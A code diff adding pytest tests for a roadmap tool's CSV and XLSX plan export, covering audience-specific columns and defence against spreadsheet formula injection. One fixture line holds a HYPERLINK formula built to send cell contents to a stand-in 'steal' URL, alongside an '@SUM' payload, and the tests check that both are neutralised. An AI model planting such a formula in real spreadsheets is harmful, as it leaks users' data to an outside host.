@@ -90,3 +90,141 @@ def test_invalid_data_is_reported_as_usual(run_cli: RunCli, make_roadmap, tmp_pa
     assert result.exit_code == 1
     assert "a.yaml:4:9: error:" in result.stderr
     assert not (tmp_path / "t.svg").exists()
+
+
+# --- roadmap export plan -------------------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("https://example.com/steal?d="&A1,"Click me")'
+LEADERSHIP = [
+    "ID",
+    "Title",
+    "Status",
+    "Owner",
+    "Team",
+    "Start quarter",
+    "End quarter",
+    "Impact",
+    "Effort (points)",
+    "Quadrant",
+    "Score",
+    "Key results",
+    "Dependencies",
+    "Risks",
+]
+PUBLIC = [c for c in LEADERSHIP if c not in ("Quadrant", "Score", "Risks")]
+
+
+def _plan(run_cli: RunCli, output: Path, *extra: object, data: Path = EXAMPLE):  # type: ignore[no-untyped-def]
+    fmt = output.suffix.lstrip(".")
+    return run_cli(
+        "export", "plan", "--data", data, "--format", fmt, "--output", output,
+        "--today", "2027-05-10", *extra,
+    )  # fmt: skip
+
+
+def _csv(path: Path) -> list[list[str]]:
+    import csv
+
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")  # a byte order mark: Excel reads it as UTF-8
+    return list(csv.reader(raw.decode("utf-8-sig").splitlines(keepends=True)))
+
+
+def _hostile_copy(tmp_path: Path) -> Path:
+    import shutil
+
+    data = tmp_path / "roadmap"
+    shutil.copytree(EXAMPLE, data)
+    path = data / "initiatives" / "kb-overhaul.yaml"
+    text = path.read_text("utf-8")
+    old = next(line for line in text.splitlines() if line.startswith("title:"))
+    path.write_text(text.replace(old, f"title: '{HOSTILE}'"), "utf-8")
+    path = data / "initiatives" / "macros-cleanup.yaml"
+    text = path.read_text("utf-8")
+    old = next(line for line in text.splitlines() if line.startswith("title:"))
+    path.write_text(text.replace(old, "title: '@SUM(1+1)'"), "utf-8")
+    return data
+
+
+def test_the_plan_as_csv_has_the_editions_columns(run_cli: RunCli, tmp_path: Path) -> None:
+    team = tmp_path / "team.csv"
+    result = _plan(run_cli, team)
+    assert result.exit_code == 0, result.stderr
+    assert result.stderr == f"wrote the team edition's plan (16 initiatives) to {team}\n"
+    rows = _csv(team)
+    assert rows[0] == PUBLIC
+    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
+    assert "legacy-ivr-rebuild" not in by_id  # left out of the plan: not in a public edition
+    kb = by_id["kb-overhaul"]
+    assert kb["Title"] and kb["Status"] in ("Planned", "In progress", "Proposed")
+    assert kb["Start quarter"].startswith("2027-Q") and kb["Impact"].isdigit()
+    everything = "\n".join(",".join(r) for r in rows)
+    assert "EUR 18k" not in everything  # no internal notes
+
+    lead = tmp_path / "lead.csv"
+    assert _plan(run_cli, lead, "--audience", "leadership").exit_code == 0
+    rows = _csv(lead)
+    assert rows[0] == LEADERSHIP
+    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
+    assert "legacy-ivr-rebuild" in by_id
+    assert by_id["kb-overhaul"]["Quadrant"] in ("Quick win", "Strategic", "Fill-in", "Ballast")
+    assert float(by_id["kb-overhaul"]["Score"]) > 0
+
+    org = tmp_path / "org.csv"
+    assert _plan(run_cli, org, "--audience", "organisation").exit_code == 0
+    assert _csv(org)[0] == PUBLIC
+    again = tmp_path / "again.csv"
+    _plan(run_cli, again)
+    assert again.read_bytes() == team.read_bytes()
+
+
+def test_the_plan_as_xlsx_holds_values_never_formulas(run_cli: RunCli, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    data = _hostile_copy(tmp_path)
+    output = tmp_path / "plan.xlsx"
+    result = _plan(run_cli, output, "--audience", "leadership", data=data)
+    assert result.exit_code == 0, result.stderr
+    sheet = load_workbook(output).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert cells and all(c.data_type != "f" for c in cells)
+    assert [c.value for c in sheet[1]] == LEADERSHIP
+    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
+    kb = dict(zip(LEADERSHIP, rows["kb-overhaul"], strict=True))
+    assert kb["Title"] == HOSTILE  # the text as written, in a string cell
+    (title,) = [c for c in cells if c.value == HOSTILE]
+    assert title.data_type == "s" and title.quotePrefix  # typed as text: stays text when edited
+    assert isinstance(kb["Impact"], int) and isinstance(kb["Score"], float)
+    assert b"<f>" not in _unzipped(output)  # no formula anywhere in the file
+
+
+def _unzipped(path: Path) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(path) as z:
+        return b"".join(z.read(n) for n in z.namelist())
+
+
+def test_csv_neutralises_formulas(run_cli: RunCli, tmp_path: Path) -> None:
+    data = _hostile_copy(tmp_path)
+    output = tmp_path / "plan.csv"
+    assert _plan(run_cli, output, data=data).exit_code == 0
+    titles = {r[0]: r[1] for r in _csv(output)[1:]}
+    assert titles["kb-overhaul"] == "'" + HOSTILE
+    assert titles["macros-cleanup"] == "'@SUM(1+1)"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in _csv(output) for cell in r)
+
+
+def test_export_plan_refusals(run_cli: RunCli, tmp_path: Path) -> None:
+    result = run_cli(
+        "export", "plan", "--data", EXAMPLE, "--format", "csv", "--output", tmp_path / "p.xlsx"
+    )
+    assert (result.exit_code, result.stderr) == (
+        1,
+        f"error: {tmp_path / 'p.xlsx'}: the plan is written as CSV; name a file ending in .csv\n",
+    )
+    result = run_cli("export", "plan", "--data", EXAMPLE, "--format", "ods", "-o", tmp_path / "p")
+    assert result.exit_code == 2
+    target = tmp_path / "missing" / "p.csv"
+    assert _plan(run_cli, target).exit_code == 1
+    assert list(tmp_path.iterdir()) == []  # nothing half-written
